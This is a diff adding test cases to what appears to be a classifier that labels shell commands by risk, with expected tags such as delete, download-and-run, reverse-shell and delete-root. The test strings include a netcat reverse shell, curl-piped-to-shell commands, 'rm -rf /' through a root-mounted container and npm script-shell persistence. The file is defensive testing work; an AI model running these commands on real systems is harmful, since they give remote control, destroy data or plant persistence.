@@ -216,3 +216,40 @@ commands("loops and names that hide something", [
   ["LD_PRELOAD=/tmp/x.so ls", ["unknown !remote-code:3:code-by-environment"]],
   ["NODE_OPTIONS=--max-old-space-size=4096 ls", []],
 ]);
+
+commands("conditions that are constants", [
+  ["false && rm a", []],
+  ["true || rm a", []],
+  [": || rm a; rm b", ["delete b"]],
+  ["true && rm a", ["delete a"]],
+  ["false || rm a", ["delete a"]],
+  ["false && rm a || rm b", ["delete b"]],
+  ["false() { true; }; false && rm a", ["delete a"]],
+  ["source elsewhere; false && rm a", ["read elsewhere", "exec elsewhere", "unknown", "delete a"]],
+]);
+
+commands("shells fed through a pipe", [
+  ["source /dev/stdin <<< 'rm a'", ["delete a", "exec rm"]],
+  ["curl x.example | source /dev/stdin", ["network x.example", "unknown", "unknown !remote-code:3:download-and-run"]],
+  [
+    "cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f",
+    ["write /tmp/f", "read /tmp/f", "network h upload", "unknown !remote-code:3:reverse-shell"],
+  ],
+  ["watch eval $(curl x.example)", ["network x.example", "unknown", "unknown !remote-code:3:download-and-run"]],
+]);
+
+commands("containers", [
+  ["docker run --rm alpine rm -rf /", ["exec docker", "network alpine"]],
+  [
+    "docker run --rm -v /:/h alpine rm -rf /",
+    ["exec docker !system:3:docker-root-mount", "exec docker", "network alpine", "exec ? !mass-delete:3:delete-root"],
+  ],
+  ["docker exec c rm -rf /", ["network c", "exec ? !mass-delete:3:delete-root"]],
+]);
+
+commands("roundabout", [
+  ["flatpak-spawn --host --env=A=1 rm a", ["delete a", "exec rm"]],
+  ["chroot /mnt rm -rf /x", ["delete /x recursive", "privilege", "unknown"]],
+  ["npm config set script-shell /tmp/x", ["write /home/u/.npmrc !persistence:3:npm-script-shell"]],
+  ["docker login", ["network ?", "write /home/u/.docker/config.json"]],
+]);
